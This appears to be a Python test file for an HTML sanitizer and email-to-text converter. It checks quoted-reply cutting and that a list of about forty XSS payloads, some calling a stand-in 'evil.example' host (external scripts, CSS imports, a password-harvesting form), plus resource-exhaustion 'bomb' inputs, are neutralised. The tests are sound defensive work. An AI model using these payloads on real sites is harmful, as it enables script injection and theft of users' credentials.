"""HTML as text, and HTML that may be shown: nothing of it runs, nothing is fetched."""

from __future__ import annotations

import re
from time import process_time
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.transport import markup

if TYPE_CHECKING:
    from collections.abc import Callable

GMAIL = (
    "<div>It never came.</div><br><div class='gmail_quote gmail_quote_container'>"
    "<div dir=ltr class='gmail_attr'>On Sat, 21 Nov 2026, Shop &lt;s@shop.example&gt; wrote:"
    "<br></div><blockquote class='gmail_quote' style='margin:0'><p>Did it come?</p></blockquote>"
    "</div>"
)
OUTLOOK = (
    "<p>It never came.</p><hr><div id='divRplyFwdMsg'><b>From:</b> Shop<br>"
    "<b>Sent:</b> Saturday<br><b>To:</b> Ana<br><b>Subject:</b> x</div>"
    "<div><p>Did it come?</p></div>"
)
APPLE = (
    "It never came.<br><blockquote type='cite'><div>On 21 Nov 2026, Shop wrote:</div>"
    "<div>Did it come?</div></blockquote>"
)


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>a</p><p>b</p>", "a\n\nb"),
        ("<div>a</div><div>b</div>c", "a\nb\nc"),
        ("a<br>b<br><br>c", "a\nb\n\nc"),
        ("a<b>b</b><span>c</span>  d\n e", "abc d e"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("<table><tr><td>ASIN</td><td>B0</td></tr><tr><td>SKU<td>7</table>", "ASIN\tB0\nSKU\t7"),
        ("<pre>  a\n   b</pre>", "  a\n   b"),
        ("1 &lt; 2 &amp;amp; &#8364;&nbsp;5", "1 < 2 &amp; € 5"),
        ("<head><title>t</title><style>s{}</style></head><body>x<script>y</script>", "x"),
        ("a<!-- <p>b</p> -->c<!--[if mso]><table><tr><td>d<![endif]-->e", "ace"),
        ("a<!-- <span>b</span> -->c<!-- <i>d", "ac"),
        ("<<i>p>x", "<p>x"),
        ("a<noscript>b</noscript><template>c</template><textarea>d</textarea>", "a"),
        ("<blockquote>a<blockquote>b</blockquote></blockquote>c", "> a\n\n> > b\n\nc"),
        ("a &unheard; <3 you", "a &unheard; <3 you"),
        ("<p>open <a href='x", "open"),
        ("", ""),
        ("just words", "just words"),
    ],
)
def test_html_becomes_what_a_person_reads(html, text):
    assert markup.text(html) == text


@pytest.mark.parametrize("html", [GMAIL, OUTLOOK, APPLE])
def test_an_older_letter_is_cut_on_request(html):
    assert "Did it come?" in markup.text(html)
    assert markup.text(html, cut_quotes=True) == "It never came."


@pytest.mark.parametrize("html", [GMAIL, OUTLOOK, APPLE])
def test_where_nothing_else_is_there_the_older_letter_stays(html):
    alone = re.sub("It never came.", "", html)

    assert "Did it come?" in markup.text(alone, cut_quotes=True)


def test_words_below_a_quote_survive_its_cut():
    html = "<blockquote type=cite>Did it <div>come?</div></blockquote><p>No.</p>"

    assert markup.text(html, cut_quotes=True) == "No."


XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/relative'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://x.example' onclick='alert(1)' style='position:fixed' target=_top>x</a>",
    "<a href='https://x.example/\"onmouseover=alert(1) y=\"'>x</a>",
    "<a <b href='javascript:alert(1)'>x",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<form action=https://evil.example><input name=password><button formaction=x>",
    "<video src=x onerror=alert(1)><audio src=x><source srcset=x><picture>",
    "<table background='https://evil.example/x'><td background=x>",
    "<body onload=alert(1)>",
    "<div id=app class=admin name=x>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<<script>script>alert(1)<</script>/script>",
    "<p title='<script>'>x</p><script",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
]

ALLOWED = re.compile(
    r'</?(?:a|b|blockquote|br|code|dd|div|dl|dt|h[1-4]|hr|i|li|ol|p|pre|table|tbody|td|th|thead|tr|u|ul)>'
    r'|<a(?: href="(?:https?:|mailto:)[^"<>]*")? rel="nofollow noopener noreferrer">'
)  # fmt: skip


def strays(html: str) -> list[str]:
    """The tags of *html* that are not the closed list's, letter by letter."""
    return [tag for tag in re.findall(r"<[^>]*>?", html) if not ALLOWED.fullmatch(tag)]


@pytest.mark.parametrize("html", XSS)
def test_nothing_that_acts_is_shown(html):
    assert strays(markup.safe(html)) == []


@given(
    st.lists(st.sampled_from([*XSS, "<", ">", '"', "'", "<!--", "-->", "<b>", "</p>"]), max_size=5)
)
def test_nothing_that_acts_is_shown_however_it_is_put_together(pieces):
    html = "".join(pieces)

    assert strays(markup.safe(html)) == []
    assert strays(markup.safe(html[1:-1])) == []


@given(st.text(alphabet="<>/ab!-'\"=[]& \n\x00\ud800é"))
def test_any_text_is_read_and_shown(html):
    assert strays(markup.safe(html)) == []
    markup.text(html, cut_quotes=True)


def test_what_a_person_wrote_is_shown():
    html = (
        "<div><p>Hi <strong>you</strong> &amp; <font color=red>me</font></p>"
        "<table><tr><td>1</table>"
    )

    assert markup.safe(html) == (
        "<div><p>Hi <b>you</b> &amp; me</p><table><tbody><tr><td>1</td></tr></tbody></table></div>"
    )
    assert markup.safe("<a href='https://x.example/?a=1&amp;b=2' title=x>x</a>") == (
        '<a href="https://x.example/?a=1&amp;b=2" rel="nofollow noopener noreferrer">x</a>'
    )
    assert 'href="mailto:a@b.example"' in markup.safe("<a href=mailto:a@b.example>x</a>")


BOMBS: dict[str, Callable[[int], str]] = {
    "nested blocks": lambda n: "<div>" * n,
    "formatting without end": lambda n: "".join(f"<b id={i}><p>" for i in range(n)),
    "formatting hidden in formatting": lambda n: "<<b>b id=1><p>" * n,
    "formatting in comments": lambda n: "".join(f"<b id={i}><!-- </b> --><p>" for i in range(n)),
    "nested tables": lambda n: "<table><tr><td>" * n,
    "links": lambda n: "".join(f"<a href={i}><div>" for i in range(n)),
    "attributes": lambda n: "<p " + " ".join(f"a{i}=1" for i in range(n)) + ">",
    "attributes of a link": lambda n: "<a " + " ".join(f"a{i}=1" for i in range(n)) + ">",
    "closings": lambda n: "<div>" * n + "</p>" * n,
    "quotes": lambda n: "<blockquote>" * n + "x<br>" * n,
    "opened": lambda n: "<" * n,
    "letters of a tag": lambda n: "<" + "a" * n,
    "signs": lambda n: "&" * n,
}


@pytest.mark.parametrize("kind", BOMBS)
def test_html_that_asks_for_millions_of_elements_gets_a_bounded_answer(kind):
    """Without the rewriting the second of these takes gigabytes at a tenth of this size."""
    html = BOMBS[kind](200_000)

    before = process_time()
    assert len(markup.text(html)) <= markup.LONGEST_HTML
    assert len(markup.safe(html)) <= 6 * markup.LONGEST_HTML
    assert process_time() - before < 20


def test_tags_beyond_the_limit_are_not_looked_at():
    html = "<p>x</p>" * markup.MOST_TAGS

    assert markup.is_long(html)
    assert markup.text(html).count("x") == markup.MOST_TAGS // 2
    assert not markup.is_long("<p>x</p>" * (markup.MOST_TAGS // 2))
